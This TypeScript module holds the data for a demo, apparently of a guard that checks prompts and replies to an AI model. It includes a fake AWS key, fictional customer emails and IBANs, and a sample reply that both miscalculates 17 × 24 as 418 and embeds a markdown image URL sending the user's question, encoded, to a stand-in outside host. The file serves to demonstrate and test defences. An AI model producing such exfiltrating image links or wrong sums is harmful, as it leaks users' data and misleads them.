import { sample } from '../../src/engine/sample.ts';
import { email, iban } from '../../test/e2e/private-data.ts';

/** What the demo says and hears. All of it is made up. */

export const key = sample('AKIA{base32:16}', 3);
export const prompt = `Why does this deploy fail? AWS_ACCESS_KEY_ID=${key} region=eu-central-1`;

export const customers = [
  { name: 'Anna Berg', mail: email('anna.berg'), account: iban() },
  { name: 'Ben Ode', mail: email('ben.ode'), account: iban() },
  { name: 'Carla Ruiz', mail: email('carla.ruiz'), account: iban() },
];
export const customerList = `Write a friendly reminder to each of these:\n${customers
  .map(({ name, mail, account }) => `${name}, ${mail}, ${account}`)
  .join('\n')}`;

export const calmReply = `Dear Anna Berg,

we would like to remind you kindly of our invoice. Please tell us where it should go: [EMAIL_ADDRESS_1].

Shall I write the others too?`;

export const question = 'What do 17 crates of 24 bottles make?';
/** A sum that is wrong, and a picture whose address carries the question to another host. */
const carried = Buffer.from(`user asked: ${question}`).toString('base64url');
export const wrongResult = '418';
export const doubtfulReply = `Gladly. 17 × 24 = ${wrongResult}, so you need 418 caps.

Here is a chart for your files:

![chart](https://images.example/chart.gif?d=${carried})

Tell me if you want it as a table.`;
